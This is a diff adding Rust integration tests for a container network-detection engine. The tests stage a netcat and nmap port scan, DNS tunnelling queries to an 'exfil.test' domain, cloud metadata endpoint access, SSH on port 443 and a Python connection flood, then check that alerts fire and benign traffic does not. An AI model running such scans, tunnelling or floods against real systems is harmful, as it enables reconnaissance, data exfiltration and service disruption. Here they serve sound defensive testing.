@@ -1,0 +1,410 @@
+//! The network detectors on real containers, each with a benign neighbour that must
+//! not fire: a scan against ordinary repeated connections, DNS tunnelling (long TXT
+//! queries to a local DNS sink) against ordinary lookups, a connection flood against a
+//! web client under steady load, cloud metadata access, a plaintext protocol on a port
+//! it does not own; and the pcapng of an alert, read back by tshark.
+
+mod common;
+
+use std::time::Duration;
+
+use rampart_netflow::capture::CaptureConfig;
+use rampart_netflow::segment::{Mode, SegmentationConfig};
+use rampart_netflow::EngineConfig;
+use rampart_testbed::TestNetwork;
+
+const PY_IMAGE: &str = "rampart-test/pyapp:1";
+const PY_IMAGE_REPO: &str = "rampart-test/pyapp";
+
+/// A DNS server answering every question with one TXT record.
+const DNS_SINK: &str = r#"
+import socket
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("0.0.0.0", 53))
+while True:
+    q, a = s.recvfrom(4096)
+    if len(q) < 12:
+        continue
+    end = 12
+    while end < len(q) and q[end] != 0:
+        end += q[end] + 1
+    question = q[12:end + 5]
+    answer = b"\xc0\x0c\x00\x10\x00\x01\x00\x00\x00\x3c\x00\x03\x02ok"
+    s.sendto(q[:2] + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00" + question + answer, a)
+"#;
+
+/// A TCP server that accepts and closes, with a deep backlog (the flood's target).
+const ACCEPTOR: &str = r#"
+import socket
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind(("0.0.0.0", 8080)); s.listen(4096)
+while True:
+    c, _ = s.accept(); c.close()
+"#;
+
+const FLOOD: &str = r#"
+import socket, sys, time
+host, n = sys.argv[1], int(sys.argv[2])
+t = time.time()
+for _ in range(n):
+    try:
+        c = socket.create_connection((host, 8080), timeout=2); c.close()
+    except OSError:
+        pass
+print(n / (time.time() - t))
+"#;
+
+fn config() -> EngineConfig {
+    EngineConfig {
+        state_dir: None,
+        segmentation: SegmentationConfig {
+            auto_monitor: false,
+            ..Default::default()
+        },
+        ..Default::default()
+    }
+}
+
+fn rules(alerts: &[rampart_event::Alert]) -> Vec<String> {
+    alerts
+        .iter()
+        .map(|a| format!("{}: {}", a.rule, a.message))
+        .collect()
+}
+
+#[test]
+fn scans_floods_tunnels_metadata_and_plaintext_fire_and_their_neighbours_do_not() {
+    if !rampart_testbed::image_present(PY_IMAGE) {
+        rampart_testbed::skip_or_fail(format!("{PY_IMAGE} is missing (scripts/setup builds it)"));
+        return;
+    }
+    let _turn = common::serial();
+    let Some(mut engine) = common::engine(config()) else {
+        return;
+    };
+    let net = TestNetwork::create("net-det");
+    let web = common::http_server("net-det-web", "web", &net.name, 100);
+    let steady = common::service("net-det-steady", "steady", &net.name, &[]);
+    let scanner = common::service("net-det-scan", "scanner", &net.name, &[]);
+    rampart_testbed::remove_container("net-det-dns");
+    rampart_testbed::remove_container("net-det-flood");
+    let sink_id = rampart_testbed::docker(&[
+        "run",
+        "-d",
+        "--name",
+        "net-det-dns",
+        "--network",
+        &net.name,
+        PY_IMAGE,
+        "python3",
+        "-c",
+        DNS_SINK,
+    ]);
+    let _sink_guard = Guard("net-det-dns");
+    let flooder_id = rampart_testbed::docker(&[
+        "run",
+        "-d",
+        "--name",
+        "net-det-flood",
+        "--network",
+        &net.name,
+        "--label",
+        "com.docker.compose.project=nettest",
+        "--label",
+        "com.docker.compose.service=flooder",
+        PY_IMAGE,
+        "sleep",
+        "300",
+    ]);
+    let _flood_guard = Guard("net-det-flood");
+    let web_ip = web.ip(&net.name);
+    let sink_ip = rampart_testbed::docker(&[
+        "inspect",
+        "-f",
+        "{{(index .NetworkSettings.Networks \"net-det\").IPAddress}}",
+        &sink_id,
+    ]);
+    engine.refresh_directory(common::now_ns());
+    // Everything below is judged outside discovery.
+    let now = common::now_ns();
+    for w in ["steady", "scanner", "flooder", "web"] {
+        engine
+            .segmentation
+            .set_mode(&format!("compose:nettest/{w}"), Mode::Monitor, now);
+    }
+
+    // Benign neighbours first: steady web load (60 requests over 6 s), ordinary DNS
+    // lookups, HTTP on 8080.
+    steady.exec(&format!(
+        "for i in $(seq 1 60); do wget -q -O- http://{web_ip}:8080/file >/dev/null; sleep 0.1; done"
+    ));
+    steady.exec(&format!(
+        "for i in $(seq 1 12); do nslookup www$i.example.test {sink_ip} >/dev/null 2>&1; done"
+    ));
+    let quiet = common::poll_quiet(&mut engine, 3);
+    let noisy: Vec<_> = rules(&quiet)
+        .into_iter()
+        .filter(|r| !r.starts_with("Network edge outside baseline"))
+        .collect();
+    assert!(noisy.is_empty(), "benign traffic alerted: {noisy:#?}");
+
+    let mut seen = Vec::new();
+    // Vertical scan: 60 ports of the web container.
+    scanner.exec(&format!(
+        "for p in $(seq 8000 8060); do timeout 1 nc {web_ip} $p </dev/null >/dev/null 2>&1; done"
+    ));
+    let scan = common::poll_for(&mut engine, &mut seen, |a| a.rule == "Port scan (vertical)")
+        .unwrap_or_else(|| panic!("no scan alert: {:#?}", rules(&seen)));
+    assert!(scan.mitre.contains(&"T1046".to_string()));
+    assert!(scan.message.contains(&web_ip), "{}", scan.message);
+
+    // DNS tunnelling: long random TXT queries to the sink.
+    scanner.exec(&format!(
+        "for i in $(seq 1 14); do nslookup -type=TXT $(head -c 24 /dev/urandom | md5sum | cut -c1-32)$(head -c 24 /dev/urandom | md5sum | cut -c1-16).t$i.exfil.test {sink_ip} >/dev/null 2>&1; done"
+    ));
+    let tunnel = common::poll_for(&mut engine, &mut seen, |a| a.rule == "DNS tunnelling")
+        .unwrap_or_else(|| panic!("no DNS tunnelling alert: {:#?}", rules(&seen)));
+    assert!(tunnel.message.contains("exfil.test"), "{}", tunnel.message);
+    assert!(tunnel.mitre.contains(&"T1071.004".to_string()));
+
+    // Cloud metadata from a workload that never used it.
+    scanner.exec("timeout 2 wget -q -O- http://169.254.169.254/latest/meta-data/ >/dev/null 2>&1");
+    let meta = common::poll_for(&mut engine, &mut seen, |a| {
+        a.rule == "Cloud metadata access"
+    })
+    .unwrap_or_else(|| panic!("no metadata alert: {:#?}", rules(&seen)));
+    assert!(meta.message.contains("169.254.169.254"), "{}", meta.message);
+
+    // SSH spoken to port 443.
+    let tls_port = common::service(
+        "net-det-443",
+        "fake443",
+        &net.name,
+        &["sh", "-c", "while true; do nc -l -p 443 >/dev/null; done"],
+    );
+    std::thread::sleep(Duration::from_millis(500));
+    let ip443 = tls_port.ip(&net.name);
+    scanner.exec(&format!(
+        "printf 'SSH-2.0-OpenSSH_9.2p1\\r\\n' | timeout 2 nc {ip443} 443"
+    ));
+    let plain = common::poll_for(&mut engine, &mut seen, |a| {
+        a.rule == "Plaintext protocol on an unusual port"
+    })
+    .unwrap_or_else(|| panic!("no plaintext alert: {:#?}", rules(&seen)));
+    assert!(
+        plain.message.contains("spoke ssh") && plain.message.contains(":443"),
+        "{}",
+        plain.message
+    );
+
+    // A connection flood: 1,500 connects as fast as Python goes (about 2,000/s
+    // here), against a server that keeps up.
+    rampart_testbed::remove_container("net-det-target");
+    let target_id = rampart_testbed::docker(&[
+        "run",
+        "-d",
+        "--name",
+        "net-det-target",
+        "--network",
+        &net.name,
+        PY_IMAGE,
+        "python3",
+        "-c",
+        ACCEPTOR,
+    ]);
+    let _target_guard = Guard("net-det-target");
+    let target_ip = rampart_testbed::docker(&[
+        "inspect",
+        "-f",
+        "{{(index .NetworkSettings.Networks \"net-det\").IPAddress}}",
+        &target_id,
+    ]);
+    std::thread::sleep(Duration::from_millis(500));
+    rampart_testbed::docker(&[
+        "exec",
+        "-d",
+        &flooder_id,
+        "python3",
+        "-c",
+        FLOOD,
+        &target_ip,
+        "1500",
+    ]);
+    // Both ends see it: the flooder's connections out, the target's in.
+    let from = common::poll_for(&mut engine, &mut seen, |a| {
+        a.rule == "Connection flood" && a.message.contains("compose:nettest/flooder →")
+    })
+    .unwrap_or_else(|| panic!("no flood alert from the flooder: {:#?}", rules(&seen)));
+    assert!(
+        from.message.contains(&format!("{target_ip}:8080")),
+        "{}",
+        from.message
+    );
+    assert!(
+        seen.iter().any(|a| a.rule == "Connection flood"
+            && a.message
+                .contains(&format!("→ image:{PY_IMAGE_REPO} port 8080"))),
+        "no flood alert against the target: {:#?}",
+        rules(&seen)
+    );
+    assert!(
+        !seen
+            .iter()
+            .any(|a| a.rule.contains("flood") && a.message.contains("steady")),
+        "the steady client was taken for a flood"
+    );
+}
+
+struct Guard(&'static str);
+
+impl Drop for Guard {
+    fn drop(&mut self) {
+        rampart_testbed::remove_container(self.0);
+    }
+}
+
+#[test]
+fn the_pcap_of_an_alert_opens_in_tshark_and_holds_the_connection() {
+    if !rampart_testbed::tool_ready("tshark", &["--version"], "scripts/setup installs tshark") {
+        return;
+    }
+    let dir = std::env::temp_dir().join(format!("net-capture-{}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    let cfg = EngineConfig {
+        capture: CaptureConfig {
+            enabled: true,
+            before_secs: 20,
+            after_secs: 1,
+            dir: dir.clone(),
+            ..Default::default()
+        },
+        ..config()
+    };
+    let _turn = common::serial();
+    let Some(mut engine) = common::engine(cfg) else {
+        return;
+    };
+    let net = TestNetwork::create("net-cap");
+    let server = common::service(
+        "net-cap-srv",
+        "sshd-on-443",
+        &net.name,
+        &["sh", "-c", "while true; do nc -l -p 443 >/dev/null; done"],
+    );
+    let client = common::service("net-cap-cli", "capclient", &net.name, &[]);
+    engine.refresh_directory(common::now_ns());
+    // Capturing starts for the containers the engine knows.
+    engine.poll(common::now_ns()).unwrap();
+    std::thread::sleep(Duration::from_millis(500));
+    let ip = server.ip(&net.name);
+    client.exec(&format!(
+        "printf 'SSH-2.0-OpenSSH_9.2p1\\r\\n' | timeout 2 nc {ip} 443"
+    ));
+    let mut seen = Vec::new();
+    let alert = common::poll_for(&mut engine, &mut seen, |a| {
+        a.rule == "Plaintext protocol on an unusual port"
+    })
+    .unwrap_or_else(|| panic!("no alert: {:#?}", rules(&seen)));
+    // The capture is written once the window after the alert has passed.
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    let path = loop {
+        engine.poll(common::now_ns()).unwrap();
+        if let Some((_, p)) = engine
+            .written
+            .iter()
+            .find(|(name, _)| name.contains(&alert.id))
+        {
+            break p.clone();
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "no capture written: {:?}",
+            engine.written
+        );
+        std::thread::sleep(Duration::from_millis(200));
+    };
+    let out = std::process::Command::new("tshark")
+        .args(["-r"])
+        .arg(&path)
+        .args([
+            "-Y",
+            "tcp.port == 443",
+            "-T",
+            "fields",
+            "-e",
+            "ip.dst",
+            "-e",
+            "tcp.dstport",
+            "-e",
+            "tcp.payload",
+        ])
+        .output()
+        .expect("tshark runs");
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        out.status.success(),
+        "tshark: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(
+        text.contains(&format!("{ip}\t443")),
+        "the connection is in the capture:\n{text}"
+    );
+    // "SSH-" in hex: the payload's first bytes were kept.
+    assert!(
+        text.contains("5353482d"),
+        "the payload is in the capture:\n{text}"
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// nmap (the host's, from scripts/setup) run inside a container: moved into the
+/// container's cgroup v2 directory and network namespace before it execs, which is
+/// what the kernel attributes flows by. A connect scan of 111 ports is a vertical scan.
+#[test]
+fn an_nmap_scan_from_a_container_is_detected() {
+    if !rampart_testbed::tool_ready("nmap", &["--version"], "scripts/setup installs nmap") {
+        return;
+    }
+    let _turn = common::serial();
+    let Some(mut engine) = common::engine(config()) else {
+        return;
+    };
+    let net = TestNetwork::create("net-nmap");
+    let web = common::http_server("net-nmap-web", "web", &net.name, 10);
+    let scanner = common::service("net-nmap-scan", "nmapper", &net.name, &[]);
+    engine.refresh_directory(common::now_ns());
+    engine
+        .segmentation
+        .set_mode("compose:nettest/nmapper", Mode::Monitor, common::now_ns());
+    let pid = rampart_testbed::docker(&["inspect", "-f", "{{.State.Pid}}", &scanner.id]);
+    let cgroup = rampart_netflow::directory::docker_cgroup_dir(&scanner.id)
+        .expect("the scanner's cgroup v2 directory");
+    let target = web.ip(&net.name);
+    let script = format!(
+        "echo $$ > {}/cgroup.procs && exec nsenter -t {pid} -n nmap -sT -Pn -n --max-retries 0 -p 7990-8100 {target}",
+        cgroup.display()
+    );
+    let out = std::process::Command::new("sh")
+        .args(["-c", &script])
+        .output()
+        .expect("nmap runs");
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(
+        text.contains("8080/tcp open"),
+        "nmap saw the web port: {text}"
+    );
+    let mut seen = Vec::new();
+    let scan = common::poll_for(&mut engine, &mut seen, |a| a.rule == "Port scan (vertical)")
+        .unwrap_or_else(|| panic!("no scan alert: {:#?}", rules(&seen)));
+    assert!(
+        scan.message.contains("compose:nettest/nmapper") && scan.message.contains(&target),
+        "{}",
+        scan.message
+    );
+    assert!(
+        scan.message.contains("nmap"),
+        "the process is named: {}",
+        scan.message
+    );
+}
